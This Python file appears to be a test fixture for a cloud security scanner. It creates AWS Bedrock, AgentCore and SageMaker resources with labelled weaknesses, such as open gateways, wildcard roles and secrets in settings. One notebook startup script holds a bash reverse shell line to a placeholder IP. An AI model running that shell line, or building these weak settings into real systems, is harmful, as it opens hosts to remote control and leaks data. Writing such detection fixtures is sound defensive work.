"""Bedrock, AgentCore and SageMaker: agents, gateways, memories, notebooks, models, jobs, endpoints, the registry."""

# ruff: noqa: E501  the tables read best in rows
from __future__ import annotations

from typing import TYPE_CHECKING, Any

from aws_compute import start_script
from aws_world import ACCOUNT, HAIKU, IMAGE, KEY_OF_PROVIDER, MODEL, REGION, World, allow, document

if TYPE_CHECKING:
    from collections.abc import Callable

_ROLE = f"arn:aws:iam::{ACCOUNT}:role/ml-exec"
_MANY = {"InstanceType": "ml.m5.large", "InstanceCount": 2, "VolumeSizeInGB": 10}
_AMAZON = f"arn:aws:bedrock:{REGION}::foundation-model/amazon.titan-embed-text-v2:0"


def bedrock(w: World) -> None:
    """Agents, a knowledge base, a tuned model, logging."""
    w.role("ml-exec", "sagemaker", allow("s3:GetObject", "arn:aws:s3:::training-keep-l/*"))
    agents = w.client("bedrock-agent")
    own = w.good(customerEncryptionKeyArn=w.key)
    roles = {
        name: w.role(f"{name}-exec", "bedrock", allow("bedrock:InvokeModel", MODEL)) for name in ("desk", "refunds")
    }
    for name in ("desk", "refunds"):
        bad = w.weak(name, "bedrock-agent-without-guardrail", "ai-data-without-own-key", "agents-share-a-role")
        text = f"You are the {name} assistant of ACME. Help its customers politely, and never tell secrets."
        agents.create_agent(
            agentName=name,
            agentResourceRoleArn=roles["desk" if bad else name],
            foundationModel=HAIKU,
            instruction=text,
            **own,
        )
    w.weak("desk-exec", "agents-share-a-role")
    bad = w.weak("tuned", "ai-data-without-own-key")
    bed = w.client("bedrock")
    bed.create_model_customization_job(
        jobName="tune-haiku", customModelName="tuned", roleArn=_ROLE, baseModelIdentifier="amazon.titan-text-lite-v1",
        trainingDataConfig={"s3Uri": "s3://training-keep-l/train.jsonl"}, outputDataConfig={"s3Uri": "s3://training-keep-l/out"},
        hyperParameters={"epochCount": "1"}, **w.good(customModelKmsKeyId=w.key),
    )  # fmt: skip
    w.weak("Amazon Bedrock in eu-west-1", "model-invocation-logging-off")
    if w.kept:
        s3 = w.bucket("call-log")
        s3.put_bucket_policy(Bucket="call-log", Policy=document(
            allow("s3:PutObject", "arn:aws:s3:::call-log/*", Principal={"Service": "bedrock.amazonaws.com"})))  # fmt: skip
        sink = {"s3Config": {"bucketName": "call-log", "keyPrefix": "b"}, "textDataDeliveryEnabled": True}
        bed.put_model_invocation_logging_configuration(loggingConfig=sink)
    agents.create_knowledge_base(
        name="handbook", roleArn=_ROLE,
        knowledgeBaseConfiguration={"type": "VECTOR", "vectorKnowledgeBaseConfiguration": {"embeddingModelArn": _AMAZON}},
        storageConfiguration={"type": "OPENSEARCH_SERVERLESS", "opensearchServerlessConfiguration": {
            "collectionArn": f"arn:aws:aoss:{REGION}:{ACCOUNT}:collection/x", "vectorIndexName": "i",
            "fieldMapping": {"vectorField": "v", "textField": "t", "metadataField": "m"}}},
    )  # fmt: skip


def agentcore(w: World) -> None:
    """Runtimes, gateways with their targets, memories."""
    core = w.client("bedrock-agentcore-control")
    role = w.role("core-exec", "bedrock-agentcore", allow("bedrock:InvokeModel", MODEL))
    inside = {"networkMode": "VPC", "networkModeConfig": {"securityGroups": [w.group], "subnets": [w.subnets[0]]}}
    artefact = {"containerConfiguration": {"containerUri": IMAGE}}
    bad = w.weak("helper", "ai-workload-outside-own-network")
    core.create_agent_runtime(agentRuntimeName="helper", roleArn=role, agentRuntimeArtifact=artefact,
                              networkConfiguration={"networkMode": "PUBLIC"} if bad else inside)  # fmt: skip
    bad = w.weak("planner", "secret-in-model-settings")
    core.create_agent_runtime(agentRuntimeName="planner", roleArn=role, agentRuntimeArtifact=artefact, networkConfiguration=inside,
                              environmentVariables={"OPENAI_API_KEY": KEY_OF_PROVIDER if bad else "arn:aws:secretsmanager:x"})  # fmt: skip
    wide = w.weak("roamer-exec", "iam-wildcard-for-ai-role")
    broad = w.role("roamer-exec", "bedrock-agentcore", allow("*", "*") if wide else allow("bedrock:InvokeModel", MODEL))
    core.create_agent_runtime(
        agentRuntimeName="roamer", roleArn=broad, agentRuntimeArtifact=artefact, networkConfiguration=inside
    )
    jwt: dict[str, Any] = {"discoveryUrl": "https://id.acme.example/.well-known/openid-configuration"}
    for name, changed, rule in (
        ("tools-open", {"authorizerType": "NONE"}, "mcp-server-without-authentication"),
        ("tools-plain", {"kmsKeyArn": None}, "ai-data-without-own-key"),
        ("tools-jwt", {"authorizerType": "CUSTOM_JWT", "authorizerConfiguration": {"customJWTAuthorizer": jwt}}, "gateway-takes-any-token"),
        ("tools-debug", {"exceptionLevel": "DEBUG"}, "gateway-tells-its-errors"),
        ("tools-notes", {"policyEngineConfiguration": {"arn": f"arn:aws:bedrock-agentcore:{REGION}:{ACCOUNT}:policy-engine/p-abcdefghij", "mode": "LOG_ONLY"}},
         "gateway-policy-only-notes"),
    ):  # fmt: skip
        w.weak(name, rule)
        given = {"authorizerType": "AWS_IAM", "kmsKeyArn": w.key, **(changed if not w.kept else {})}
        if w.kept and name == "tools-jwt":
            given |= {
                "authorizerType": "CUSTOM_JWT",
                "authorizerConfiguration": {"customJWTAuthorizer": {**jwt, "allowedClients": ["web"]}},
            }
        made = core.create_gateway(name=name, roleArn=role, protocolType="MCP", **{n: v for n, v in given.items() if v})
        if name == "tools-plain":
            _targets(w, core, made["gatewayId"])
    for name, rule in (("notes", "ai-data-without-own-key"),):
        w.weak(name, rule)
        core.create_memory(name=name, eventExpiryDuration=30, **w.good(encryptionKeyArn=w.key))


def _targets(w: World, core: Any, gateway: str) -> None:
    place = "QUERY_PARAMETER" if w.weak("crm-key", "gateway-sends-key-in-address") else "HEADER"
    provider = f"arn:aws:bedrock-agentcore:{REGION}:{ACCOUNT}:token-vault/default/apikeycredentialprovider/crm"
    key = {"credentialProviderType": "API_KEY", "credentialProvider": {"apiKeyCredentialProvider": {
        "providerArn": provider, "credentialLocation": place, "credentialParameterName": "key"}}}  # fmt: skip
    schema = {"s3": {"uri": "s3://rag-handbook-a/openapi.json"}}
    core.create_gateway_target(gatewayIdentifier=gateway, name="crm-key", credentialProviderConfigurations=[key],
                               targetConfiguration={"mcp": {"openApiSchema": schema}})  # fmt: skip


def notebooks(w: World) -> None:
    """Notebook instances, one weakness each."""
    sm = w.client("sagemaker")
    lines = {
        "script-secret": f"export OPENAI_API_KEY={KEY_OF_PROVIDER}",
        "script-shell": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    }
    for name, code in lines.items():
        sm.create_notebook_instance_lifecycle_config(
            NotebookInstanceLifecycleConfigName=name,
            OnStart=[{"Content": start_script(f"#!/bin/sh\n{'true' if w.kept else code}\n")}],
        )
    for name, changed, rule in (
        ("lab-internet", {"DirectInternetAccess": "Enabled"}, "notebook-instance-direct-internet"),
        ("lab-root", {"RootAccess": "Enabled"}, "notebook-instance-root-access"),
        ("lab-default", {"DirectInternetAccess": None, "RootAccess": None}, "notebook-instance-direct-internet"),
        ("lab-plain", {"KmsKeyId": None}, "ai-data-without-own-key"),
        ("lab-outside", {"SubnetId": None, "SecurityGroupIds": None, "DirectInternetAccess": "Enabled"}, "ai-workload-outside-own-network"),
        ("lab-secret", {"LifecycleConfigName": "script-secret"}, "secret-in-startup-script"),
        ("lab-shell", {"LifecycleConfigName": "script-shell"}, "startup-script-attacks"),
        ("lab-imds", {"InstanceMetadataServiceConfiguration": {"MinimumInstanceMetadataServiceVersion": "1"}}, "ai-host-metadata-v1"),
        ("lab-old", {"PlatformIdentifier": "notebook-al1-v1"}, "notebook-platform-outdated"),
    ):  # fmt: skip
        w.weak(name, rule)
        given = {"DirectInternetAccess": "Disabled", "RootAccess": "Disabled", "KmsKeyId": w.key, "SubnetId": w.subnets[0],
                 "SecurityGroupIds": [w.group], "PlatformIdentifier": "notebook-al2023-v1", **(changed if not w.kept else {})}  # fmt: skip
        sm.create_notebook_instance(NotebookInstanceName=name, InstanceType="ml.t3.medium", RoleArn=_ROLE,
                                    **{n: v for n, v in given.items() if v is not None})  # fmt: skip


def models(w: World) -> None:
    """Models and their endpoints."""
    sm = w.client("sagemaker")
    container = {"Image": IMAGE, "ModelDataUrl": "s3://model-site-k/m.tar.gz"}
    for name, changed, rule in (
        ("m-outside", {"VpcConfig": None}, "ai-workload-outside-own-network"),
        ("m-platform", {"PrimaryContainer": {**container, "ImageConfig": {"RepositoryAccessMode": "Platform"}}}, "model-image-past-own-registry"),
        ("m-secret", {"PrimaryContainer": {**container, "Environment": {"HF_TOKEN": KEY_OF_PROVIDER}}}, "secret-in-model-settings"),
    ):  # fmt: skip
        w.weak(name, rule)
        given: dict[str, Any] = {
            "PrimaryContainer": container,
            "VpcConfig": w.inside,
            **(changed if not w.kept else {}),
        }
        sm.create_model(
            ModelName=name, ExecutionRoleArn=_ROLE, EnableNetworkIsolation=True, **{n: v for n, v in given.items() if v}
        )


def configurations(w: World) -> None:
    """Configurations of endpoints, an endpoint, and a model from the registry."""
    sm = w.client("sagemaker")
    for name, changed, rule in (
        ("e-plain", {"KmsKeyId": None}, "ai-data-without-own-key"),
        ("e-single", {"count": 1}, "endpoint-on-one-machine"),
        ("e-silent", {"DataCaptureConfig": {"EnableCapture": False}}, "endpoint-answers-not-captured"),
    ):  # fmt: skip
        w.weak(name, rule)
        kept = {"EnableCapture": True, "InitialSamplingPercentage": 100, "DestinationS3Uri": "s3://training-keep-l/c", "KmsKeyId": w.key,
                   "CaptureOptions": [{"CaptureMode": "Input"}]}  # fmt: skip
        config: dict[str, Any] = {
            "KmsKeyId": w.key,
            "count": 2,
            "DataCaptureConfig": kept,
            **(changed if not w.kept else {}),
        }
        capture = {**kept, **config.pop("DataCaptureConfig")}
        variant = {
            "VariantName": "a",
            "ModelName": "m-outside",
            "InitialInstanceCount": config.pop("count"),
            "InstanceType": "ml.m5.large",
            "InitialVariantWeight": 1,
        }
        sm.create_endpoint_config(
            EndpointConfigName=name,
            ProductionVariants=[variant],
            DataCaptureConfig=capture,
            **{n: v for n, v in config.items() if v},
        )
    sm.create_endpoint(EndpointName="answers", EndpointConfigName="e-single")
    sm.create_model_package_group(ModelPackageGroupName="rankers", ModelPackageGroupDescription="rankers")
    bad = w.weak("m-unapproved", "unapproved-model-deployed")
    package = sm.create_model_package(
        ModelPackageGroupName="rankers", ModelApprovalStatus="Rejected" if bad else "Approved",
        InferenceSpecification={"Containers": [{"Image": IMAGE, "ModelDataUrl": "s3://model-site-k/m.tar.gz"}],
                                "SupportedContentTypes": ["text/csv"], "SupportedResponseMIMETypes": ["text/csv"]},
    )["ModelPackageArn"]  # fmt: skip
    sm.create_model(ModelName="m-unapproved", ExecutionRoleArn=_ROLE, EnableNetworkIsolation=True, VpcConfig=w.inside,
                    PrimaryContainer={"ModelPackageName": package})  # fmt: skip


def jobs(w: World) -> None:
    """Training, processing, transform and tuning jobs; monitors; features; a domain."""
    sm = w.client("sagemaker")
    source = {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": "s3://training-keep-l/train"}}
    for name, changed, rule in (
        ("t-traffic", {"EnableInterContainerTrafficEncryption": False}, "training-traffic-unencrypted"),
        ("t-network", {"EnableNetworkIsolation": False}, "model-without-network-isolation"),
        ("t-volume", {"ResourceConfig": _MANY}, "ai-data-without-own-key"),
        ("t-output", {"OutputDataConfig": {"S3OutputPath": "s3://training-keep-l/o"}}, "ai-data-without-own-key"),
        ("t-outside", {"VpcConfig": None}, "ai-workload-outside-own-network"),
        ("t-secret", {"HyperParameters": {"hub_token": KEY_OF_PROVIDER, "epochs": "3"}}, "secret-in-model-settings"),
    ):  # fmt: skip
        w.weak(name, rule)
        given: dict[str, Any] = {"EnableInterContainerTrafficEncryption": True, "EnableNetworkIsolation": True, "ResourceConfig": {**_MANY, "VolumeKmsKeyId": w.key},
                 "OutputDataConfig": {"S3OutputPath": "s3://training-keep-l/o", "KmsKeyId": w.key}, "VpcConfig": w.inside,
                 "HyperParameters": {"epochs": "3"}, **(changed if not w.kept else {})}  # fmt: skip
        sm.create_training_job(
            TrainingJobName=name, RoleArn=_ROLE, StoppingCondition={"MaxRuntimeInSeconds": 60},
            AlgorithmSpecification={"TrainingImage": IMAGE, "TrainingInputMode": "File"},
            InputDataConfig=[{"ChannelName": "train", "DataSource": source}], **{n: v for n, v in given.items() if v is not None},
        )  # fmt: skip
    w.weak("p-network", "model-without-network-isolation")
    sm.create_processing_job(
        ProcessingJobName="p-network", RoleArn=_ROLE, AppSpecification={"ImageUri": IMAGE},
        ProcessingResources={"ClusterConfig": {**_MANY, "VolumeKmsKeyId": w.key}},
        NetworkConfig={"EnableNetworkIsolation": w.kept, "EnableInterContainerTrafficEncryption": True, "VpcConfig": w.inside},
    )  # fmt: skip
    cluster = {"ClusterConfig": {**_MANY, "VolumeKmsKeyId": w.key}}
    output = {
        "MonitoringOutputs": [{"S3Output": {"S3Uri": "s3://training-keep-l/q", "LocalPath": "/o"}}],
        "KmsKeyId": w.key,
    }
    near = {"EndpointInput": {"EndpointName": "answers", "LocalPath": "/i"}}
    for noun, extra in (("data_quality", {}), ("model_bias", {"GroundTruthS3Input": {"S3Uri": "s3://training-keep-l/g"}}),
                        ("model_explainability", {}), ("model_quality", {"GroundTruthS3Input": {"S3Uri": "s3://training-keep-l/g"}})):  # fmt: skip
        word = "".join(part.capitalize() for part in noun.split("_"))
        app = {
            "ImageUri": IMAGE,
            **({"ConfigUri": "s3://training-keep-l/c"} if noun in {"model_bias", "model_explainability"} else {}),
        }
        app |= {"ProblemType": "Regression"} if noun == "model_quality" else {}
        name = f"q-{noun.replace('_', '-')}"
        w.weak(name, "model-without-network-isolation", "training-traffic-unencrypted")
        getattr(sm, f"create_{noun}_job_definition")(
            JobDefinitionName=name, RoleArn=_ROLE, JobResources=cluster,
            NetworkConfig={"EnableNetworkIsolation": w.kept, "EnableInterContainerTrafficEncryption": w.kept, "VpcConfig": w.inside},
            **{f"{word}AppSpecification": app, f"{word}JobInput": {**near, **extra}, f"{word}JobOutputConfig": output},
        )  # fmt: skip
    bad = w.weak("clients", "ai-data-without-own-key")
    store = {"S3Uri": "s3://training-keep-l/f", **({} if bad else {"KmsKeyId": w.key})}
    sm.create_feature_group(FeatureGroupName="clients", RecordIdentifierFeatureName="id", EventTimeFeatureName="t", RoleArn=_ROLE,
                            FeatureDefinitions=[{"FeatureName": "id", "FeatureType": "String"}, {"FeatureName": "t", "FeatureType": "String"}],
                            OfflineStoreConfig={"S3StorageConfig": store})  # fmt: skip


def studios(w: World) -> None:
    """Domains."""
    sm = w.client("sagemaker")
    for name, changed, rule in (
        ("studio-iam", {"AuthMode": "IAM"}, "studio-without-single-sign-on"),
        ("studio-internet", {"AppNetworkAccessType": "PublicInternetOnly"}, "ai-workload-outside-own-network"),
        ("studio-plain", {"KmsKeyId": None}, "ai-data-without-own-key"),
        ("studio-shares", {"share": {"NotebookOutputOption": "Allowed", "S3OutputPath": "s3://training-keep-l/s"}}, "studio-shares-output-unencrypted"),
    ):  # fmt: skip
        w.weak(name, rule)
        domain: dict[str, Any] = {
            "AuthMode": "SSO",
            "AppNetworkAccessType": "VpcOnly",
            "KmsKeyId": w.key,
            **(changed if not w.kept else {}),
        }
        share = domain.pop("share", None)
        settings = {"ExecutionRole": _ROLE, **({"SharingSettings": share} if share else {})}
        sm.create_domain(
            DomainName=name,
            DefaultUserSettings=settings,
            SubnetIds=[w.subnets[0]],
            VpcId=w.vpc,
            **{n: v for n, v in domain.items() if v},
        )


def trails(w: World) -> None:
    """A trail that was stopped."""
    s3 = w.bucket("trail-log")
    service = {"Service": "cloudtrail.amazonaws.com"}
    s3.put_bucket_policy(Bucket="trail-log", Policy=document(
        allow("s3:GetBucketAcl", "arn:aws:s3:::trail-log", Principal=service), allow("s3:PutObject", "arn:aws:s3:::trail-log/*", Principal=service)))  # fmt: skip
    client = w.client("cloudtrail")
    client.create_trail(Name="all", S3BucketName="trail-log", IsMultiRegionTrail=True)
    bad = w.weak("Amazon Bedrock in eu-west-1", "ai-activity-not-audited")
    (client.stop_logging if bad else client.start_logging)(Name="all")


PARTS: tuple[Callable[[World], None], ...] = (
    bedrock, agentcore, notebooks, models, configurations, jobs, studios, trails,
)  # fmt: skip
